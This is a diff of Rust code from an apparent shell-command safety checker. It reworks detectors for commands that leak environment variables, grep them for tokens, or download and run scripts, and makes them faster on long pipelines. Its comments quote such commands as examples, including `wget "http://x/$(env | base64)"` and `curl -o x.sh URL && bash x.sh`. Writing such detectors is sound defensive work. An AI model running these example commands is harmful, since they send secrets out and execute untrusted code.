@@ -248,39 +248,54 @@ pub fn check_environment_sent(line: &str) -> Option<Finding> {
 }
 
 /// [`check_environment_sent`] over `cmds`, and the commands of their substitutions.
+/// The environment given to a sender inside its words: `wget "http://x/$(env | base64)"`.
+fn sent_in_words(c: &lex::Simple) -> Option<Finding> {
+    let name = basename(c.argv.first()?);
+    (SENDERS.contains(&&*name) && c.substitutions.iter().any(reads_environment)).then(|| {
+        finding(
+            Severity::Warn,
+            "secret_read",
+            "sends an environment, and the tokens it holds, to another machine inside a request",
+            &c.argv,
+        )
+    })
+}
+
 fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
     if depth > MAX_DEPTH {
         return None;
     }
+    // The environment filtered for its credentials (`env | grep -i token`), or sent: what
+    // follows each command, read only when some command reads an environment.
+    let reading: Vec<bool> = cmds.iter().map(reads_environment).collect();
+    if !reading.contains(&true) {
+        return cmds.iter().find_map(|c| {
+            environment_sent_in(&c.substitutions, depth + 1).or_else(|| sent_in_words(c))
+        });
+    }
+    let grep_after = super::pipeline::followed_by(cmds, |d| {
+        d.argv
+            .first()
+            .is_some_and(|p| basename(p).ends_with("grep"))
+            && d.argv[1..].iter().any(|a| names_credential(a))
+    });
+    let sender_after = super::pipeline::followed_by(cmds, |d| {
+        look_through(d)
+            .argvs
+            .iter()
+            .any(|a| a.first().is_some_and(|w| SENDERS.contains(&&*basename(w))))
+    });
     cmds.iter().enumerate().find_map(|(i, c)| {
         if let Some(f) = environment_sent_in(&c.substitutions, depth + 1) {
             return Some(f);
         }
-        let name = basename(c.argv.first()?);
-        let whole_env = reads_environment(c);
-        // The environment given to a sender inside its words: `wget "http://x/$(env |
-        // base64)"`.
-        if SENDERS.contains(&&*name) && c.substitutions.iter().any(reads_environment) {
-            return Some(finding(
-                Severity::Warn,
-                "secret_read",
-                "sends an environment, and the tokens it holds, to another machine inside a \
-                 request",
-                &c.argv,
-            ));
+        if let Some(f) = sent_in_words(c) {
+            return Some(f);
         }
+        let whole_env = reading[i];
         // The environment filtered for its credentials (`env | grep -i token`): printed,
         // as `printenv GITHUB_TOKEN` prints one.
-        let picked = whole_env
-            && cmds[i + 1..]
-                .iter()
-                .take_while(|d| d.pipeline == c.pipeline)
-                .any(|d| {
-                    d.argv
-                        .first()
-                        .is_some_and(|p| basename(p).ends_with("grep"))
-                        && d.argv[1..].iter().any(|a| names_credential(a))
-                });
+        let picked = whole_env && grep_after[i];
         if picked {
             return Some(finding(
                 Severity::Warn,
@@ -289,16 +304,7 @@ fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
                 &c.argv,
             ));
         }
-        let sent = whole_env
-            && cmds[i + 1..]
-                .iter()
-                .take_while(|d| d.pipeline == c.pipeline)
-                .any(|d| {
-                    look_through(d)
-                        .argvs
-                        .iter()
-                        .any(|a| a.first().is_some_and(|w| SENDERS.contains(&&*basename(w))))
-                });
+        let sent = whole_env && sender_after[i];
         sent.then(|| {
             finding(
                 Severity::Warn,
@@ -361,6 +367,18 @@ fn download_executed_in(
     if depth > MAX_DEPTH {
         return None;
     }
+    // What each command is, read once: asked of every pair of a long line's commands it made
+    // judging a pipeline of 9,000 downloads take seconds.
+    let interpreting: Vec<bool> = cmds.iter().map(interprets).collect();
+    let interpreter_after = super::pipeline::followed_by(cmds, interprets);
+    let pipeline_end = super::pipeline::pipeline_ends(cmds);
+    // The last command running each file, by its name.
+    let mut last_run: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
+    for (j, d) in cmds.iter().enumerate() {
+        if let Some(s) = script_run(d) {
+            last_run.insert(file_name(&s), j);
+        }
+    }
     for (i, c) in cmds.iter().enumerate() {
         if let Some(f) = download_executed_in(&c.substitutions, depth + 1, budget) {
             return Some(f);
@@ -370,22 +388,13 @@ fn download_executed_in(
                 return Some(f);
             }
         }
-        // A pipeline's commands are consecutive.
-        let piped = downloads(c)
-            && cmds[i + 1..]
-                .iter()
-                .take_while(|d| d.pipeline == c.pipeline)
-                .any(interprets);
+        let piped = interpreter_after[i] && downloads(c);
         // `curl -o x.sh URL && bash x.sh`, `wget URL/i.sh; chmod +x i.sh; ./i.sh`: a later
-        // command runs the very file the download wrote.
-        let saved = saved_files(c);
-        let then_run = !saved.is_empty()
-            && cmds[i + 1..]
-                .iter()
-                .filter(|d| d.pipeline != c.pipeline)
-                .filter_map(script_run)
-                .any(|s| saved.contains(&file_name(&s)));
-        let substituted = interprets(c) && c.substitutions.iter().any(downloads);
+        // command, of another pipeline, runs the very file the download wrote.
+        let then_run = saved_files(c)
+            .iter()
+            .any(|f| last_run.get(f).is_some_and(|&j| j >= pipeline_end[i]));
+        let substituted = interpreting[i] && c.substitutions.iter().any(downloads);
         if piped || substituted || then_run {
             return Some(finding(
                 Severity::Warn,
